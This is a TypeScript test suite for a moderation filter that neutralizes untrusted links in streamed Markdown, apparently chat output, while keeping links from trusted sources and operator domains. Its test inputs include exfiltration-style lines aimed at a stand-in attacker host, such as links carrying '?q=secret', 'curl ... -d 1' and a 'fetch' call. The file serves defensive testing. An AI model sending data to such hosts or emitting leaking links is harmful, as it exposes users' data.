import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createAllowedLinks } from "../../../src/moderation/screen/links/allowed-links.ts";
import { createLinkFilter } from "../../../src/moderation/screen/links/link-filter.ts";
import { activeLinks } from "./active-links.ts";
import { EVIL, LINK_FORMS } from "./link-forms.ts";

const PAGE = "https://good.example.com/page";
const sources = [`Read ${PAGE}, or write to help@good.example.com.`, "https://web.example/#/general/12"];
const allowed = [PAGE, `${PAGE}/`, "mailto:help@good.example.com", "https://web.example/#/general/12"];

function filterOf(from: readonly string[] = sources, domains: readonly string[] = []) {
  return createLinkFilter(createAllowedLinks(from, domains));
}

function shown(text: string, from = sources, domains: readonly string[] = []): string {
  const filter = filterOf(from, domains);
  return filter.push(text, "unknown") + filter.end();
}

/** Cut into pieces at the given places. */
function inPieces(text: string, cuts: readonly number[]): readonly string[] {
  const at = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
  return [0, ...at].map((from, index) => text.slice(from, at[index] ?? text.length));
}

const strangers = (markdown: string) => activeLinks(markdown).filter((href) => !allowed.includes(href));

const WORDS = [
  ...[
    "`",
    "``",
    "```",
    "\n```\n",
    "\n~~~\n",
    "> ",
    "- ",
    "1. ",
    "\n",
    "\n\n",
    "    ",
    "| ",
    "|\n|-|-|\n",
    "\\",
  ],
  ...[
    "[",
    "]",
    "](",
    ")",
    "!",
    "<",
    ">",
    "]: ",
    "(",
    '"',
    "*",
    "**",
    "_",
    "\u1fef",
    "\u0338",
    "\r",
    "|",
    "&colon;",
  ],
  ...[
    PAGE,
    "https://",
    "evil.example.com",
    "/?q=secret",
    "//",
    ".com",
    "www.",
    "mailto:",
    "a@",
    "한글",
    "은 ",
    " ",
  ],
  ...["word", "https://evil.example.com/x", "[a](https://evil.example.com)", `[a](${PAGE})`, "`code`", ". "],
];
const markdown = fc.array(fc.constantFrom(...WORDS), { maxLength: 40 }).map((words) => words.join(""));

describe("a link that nobody gave", () => {
  test.each(LINK_FORMS)("is no link in %j, whole or in any beginning of it", (form) => {
    for (const text of [form, `Before. ${form} After`, `${form}\n\n${form}\n${PAGE}`]) {
      expect(strangers(shown(text))).toEqual([]);
      const filter = filterOf();
      let released = "";
      for (const piece of text) {
        const more = filter.push(piece, "unknown");
        released += more;
        if (more !== "") expect(strangers(released)).toEqual([]);
      }
    }
  });

  test("is shown as its label and its address, which can be read", () => {
    expect(shown("[click](https://evil.example.com/?q=secret)")).toBe(
      "click (`https://evil.example.com/?q=secret`)",
    );
    expect(shown("![cat](https://evil.example.com/cat.png) and <https://evil.example.com|this>")).toBe(
      "cat (`https://evil.example.com/cat.png`) and this (`https://evil.example.com`)",
    );
    expect(shown("비밀은 https://evil.example.com에서 찾으세요.")).toBe(
      "비밀은 `https://evil.example.com`에서 찾으세요.",
    );
    expect(shown("[1]: https://evil.example.com")).toBe("[1] : `https://evil.example.com`");
  });

  test("is cut when it is so long that a chat could cut the code in two", () => {
    expect(shown(`https://${EVIL}/${"x".repeat(1_000)}`).length).toBeLessThan(210);
  });

  test("is no link in anything that is put together of pieces of Markdown, in no beginning of it", () => {
    fc.assert(
      fc.property(markdown, fc.array(fc.nat(), { maxLength: 6 }), (text, cuts) => {
        const filter = filterOf();
        let released = "";
        for (const piece of inPieces(text, cuts)) {
          released += filter.push(piece, "unknown");
          expect(strangers(released)).toEqual([]);
        }
        released += filter.end();
        expect(strangers(released)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});

describe("a link that may be shown", () => {
  test.each([
    [`[the page](${PAGE})`, `[the page](<${PAGE}>)`],
    [`[the page](${PAGE} "title")`, `[the page](<${PAGE}>)`],
    [`See ${PAGE}.`, `See <${PAGE}>.`],
    [`**${PAGE}**, (${PAGE})`, `**<${PAGE}>**, (<${PAGE}>)`],
    [`${PAGE}에서 보세요`, `<${PAGE}>에서 보세요`],
    [`<${PAGE}|page>`, `[page](<${PAGE}>)`],
    [`${PAGE}/`, `<${PAGE}/>`],
    [`[${PAGE}](${PAGE})`, `<${PAGE}>`],
    ["good.example.com/page", `<${PAGE}>`],
    ["help@good.example.com", "<help@good.example.com>"],
    [`[**bold** \`code\`](${PAGE})`, `[**bold** \`code\`](<${PAGE}>)`],
    [`![a picture](${PAGE})`, `![a picture](<${PAGE}>)`],
    ["[Ann, Jan 1](<https://web.example/#/general/12>)", "[Ann, Jan 1](<https://web.example/#/general/12>)"],
  ])("is one: %j", (text, expected) => {
    expect(shown(text)).toBe(expected);
    expect(activeLinks(expected)).not.toEqual([]);
    expect(strangers(expected)).toEqual([]);
  });

  test("is one of the operator's domains, or of a subdomain, and never in another's name", () => {
    const of = (text: string) => shown(text, [], ["example.org"]);
    expect(of("https://example.org/a?b=c#d")).toBe("<https://example.org/a?b=c#d>");
    expect(of("https://wiki.example.org/a")).toBe("<https://wiki.example.org/a>");
    for (const other of [
      "https://badexample.org/",
      "https://example.org.evil.example.com/",
      "https://a@example.org/",
    ])
      expect(of(other)).toBe(`\`${other}\``);
  });

  test("is the very address, without a fragment or a slash at its end at most", () => {
    const of = (text: string) => shown(text, ["https://good.example.com/a/?b=c#d"]);
    for (const same of [
      "https://good.example.com/a/?b=c#d",
      "https://good.example.com/a/?b=c",
      "HTTPS://Good.example.com:443/a?b=c",
    ])
      expect(of(same)).toBe(`<${same}>`);
    for (const other of [
      "https://good.example.com/a/?b=c#e",
      "https://good.example.com/a/?b=cd",
      "http://good.example.com/a/?b=c",
      "https://good.example.com/a",
    ])
      expect(of(other)).toBe(`\`${other}\``);
  });

  test("is taken from a source also out of code, escapes and marks", () => {
    for (const source of [
      `\`${PAGE}\``,
      `**${PAGE}**`,
      `<${PAGE}>`,
      `[x](${PAGE})`,
      "https\\://good\\.example\\.com/page",
      `(${PAGE}).`,
    ])
      expect(shown(PAGE, [source])).toBe(`<${PAGE}>`);
  });
});

describe("what is no link", () => {
  test.each([
    "Version 1.2.3 of Node.js: see `main.ts`, main.ts and config.yaml, e.g. at 10:30, for 3.14 (a.m.).",
    "했어요.그리고 갔다. 3.5배, **굵게**는 *기울임*.",
    "# Title\n\n- [ ] task\n- [x] done\n\n| a | b |\n|---|---|\n| `x` | y |\n\n> quote\n> - list",
    "Use `curl https://evil.example.com -d 1` with care, or `a|b`.",
    "```sh\ncurl https://evil.example.com/?q=a&b=c\n```\nAfter.",
    "> ```js\n> fetch('https://evil.example.com')\n> ```\n\nAfter.",
    "a < b > c, x & y, 1 ~ 2, [sic] and f[0] or `a[1](b)`",
  ])("stays as it is: %j", (text) => {
    expect(shown(text)).toBe(text);
    expect(strangers(shown(text))).toEqual([]);
  });

  test("is code in a list, which begins at the line's start for all to see", () => {
    expect(shown("1. Do\n   ```sh\n   curl evil.example.com\n     -v\n   ```\n2. Done")).toBe(
      "1. Do\n```sh\ncurl evil.example.com\n  -v\n```\n2. Done",
    );
  });
});

describe("the stream", () => {
  test("gives the same text in whatever pieces it came", () => {
    fc.assert(
      fc.property(markdown, fc.array(fc.nat(), { maxLength: 10 }), (text, cuts) => {
        const filter = filterOf();
        const released = inPieces(text, cuts).map((piece) => filter.push(piece, "unknown"));
        expect(released.join("") + filter.end()).toBe(shown(text));
      }),
      { numRuns: 300 },
    );
  });

  test.each([
    "[",
    "`",
    "<",
    "![",
    "](",
    "[a](",
    "[a](<",
    '[a](b "',
    "```",
    "~~~x",
    "x",
    "https://a.example/",
    "- ",
  ])("holds %j back for a bounded time", (opening) => {
    for (const filling of ["word ", "x", "한글", "[", "`a", "\\", "(", "<"]) {
      const filter = filterOf();
      let held = 0;
      filter.push(opening, "unknown");
      const piece = filling.repeat(Math.ceil(100 / filling.length));
      for (let given = 0; given < 10_000; given += piece.length) {
        held = filter.push(piece, "unknown") === "" ? held + piece.length : 0;
        expect(held).toBeLessThan(6_100);
      }
    }
  });

  test("is filtered in time linear in its length, whatever it holds", () => {
    for (const part of [
      "[",
      "](",
      "`",
      "`a",
      "<",
      "![a](",
      "a.",
      "a@",
      "https://",
      "[a](b ",
      "\\",
      "x",
      "~",
      "> ",
      "&amp;",
      "&#",
      "(",
      "[a](",
    ]) {
      const text = part.repeat(Math.ceil(20_000 / part.length));
      const began = performance.now();
      const filter = filterOf();
      for (let at = 0; at < text.length; at += 50) filter.push(text.slice(at, at + 50), "unknown");
      filter.end();
      expect([part, performance.now() - began < 2_500]).toEqual([part, true]);
    }
  });
});
